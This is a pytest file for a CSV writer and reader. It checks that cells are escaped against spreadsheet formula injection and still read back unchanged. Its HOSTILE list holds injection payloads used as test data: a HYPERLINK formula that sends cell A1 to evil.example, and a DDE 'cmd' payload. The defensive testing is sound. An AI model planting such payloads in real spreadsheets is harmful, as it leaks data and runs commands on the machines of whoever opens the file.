"""`studies.cells.read_csv` gives back exactly what `write_csv` was given, while the file
itself holds no live spreadsheet formula."""
from __future__ import annotations

import csv

from studies.cells import FORMULA_PREFIXES, read_csv, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
           "-5", "+7.5", "'=already quoted", "'-3", "''=two", "Berlin;=1+1", "a,b\n=c", "\t=tab", "\r=cr",
           "plain", "", "x'y", "'", "=", "'''"]


def test_read_csv_undoes_write_csv(tmp_path):
    rows = [{"path": f"images/{i}.png", "prompt": value, "n": i} for i, value in enumerate(HOSTILE)]
    path = write_csv(tmp_path / "t.csv", rows, ("path", "prompt", "n", "missing"))
    back = read_csv(path)
    assert [r["prompt"] for r in back] == HOSTILE
    assert [r["n"] for r in back] == [str(i) for i in range(len(HOSTILE))]
    assert all(r["missing"] == "" for r in back)
    with open(path, newline="", encoding="utf-8") as fh:
        written = [row[1] for row in list(csv.reader(fh))[1:]]
    assert written != HOSTILE  # the file itself was escaped ...
    live = [c for c in written if c.startswith(FORMULA_PREFIXES) and c not in ("-5", "+7.5")]
    assert live == []  # ... so no cell opens as a formula
